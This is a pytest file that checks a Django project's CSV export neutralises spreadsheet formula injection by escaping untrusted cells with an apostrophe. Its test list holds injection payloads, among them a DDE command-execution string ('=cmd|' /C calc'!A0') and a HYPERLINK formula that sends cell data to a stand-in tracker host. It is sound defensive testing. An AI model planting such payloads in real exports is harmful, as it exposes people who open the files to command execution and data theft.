"""What a stranger wrote is words to a spreadsheet, never a formula (F57)."""

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command

from enforcement.management.sheets import inert, write_sheet
from enforcement.services import assessment, clock
from tests.api.conftest import Caller, item
from tests.conftest import SMALL_POLICY

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠1",  # noqa: RUF001
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://tracker.example/?"&A1)', "-2+3+cmd|'/C'!A0",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_begins_like_a_formula_begins_with_an_apostrophe(formula: str) -> None:
    out = io.StringIO()
    write_sheet(out, ["words"], [{"words": formula}])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:] == [[f"'{formula}"]]


@pytest.mark.parametrize("value", ["acme", "a=b", "CN:3 RU:1", "0.4500", "12.00", "", 0, -3, 1.5, None, "2026-06-10"])
def test_whatever_else_stays_as_it_is(value: object) -> None:
    assert inert(value) == value


@pytest.mark.parametrize("cell", ['a";=1+1', "a,=1", "a;=1", "a\n=1", "a\r=1", "a\r\n=1", "\r=1"])
def test_no_cell_becomes_two(cell: str) -> None:
    """Commas, quotes and lines are quoted, so that a formula cannot hide behind one."""
    out = io.StringIO()
    write_sheet(out, ["words", "more"], [{"words": cell, "more": ""}])
    _, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert len(row) == 2
    assert row[0].lstrip("'").replace("\n", "") == cell.replace("\r", "").replace("\n", "")


@pytest.mark.django_db(transaction=True)
def test_an_account_named_like_a_formula_is_inert_in_the_backtest(sender: Caller, tmp_path: Path) -> None:
    now = clock.now()
    seen = [item(f"e-{name}", account=name, requests=50, observed_at=now.isoformat()) for name in ("@A1", "-1-1", "ok")]
    assert sender.post("/evidence", seen).json()["accepted"] == 3
    assessment.assess(now=now)
    policy = tmp_path / "policy.yaml"
    policy.write_text(SMALL_POLICY, encoding="utf-8")
    out = io.StringIO()
    call_command("backtest", str(policy), stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["account"] for row in rows] == ["'-1-1", "'@A1", "ok"]
    out = io.StringIO()
    call_command("backtest", str(policy), "--format", "json", stdout=out)
    assert [row["account"] for row in json.loads(out.getvalue())] == ["-1-1", "@A1", "ok"]
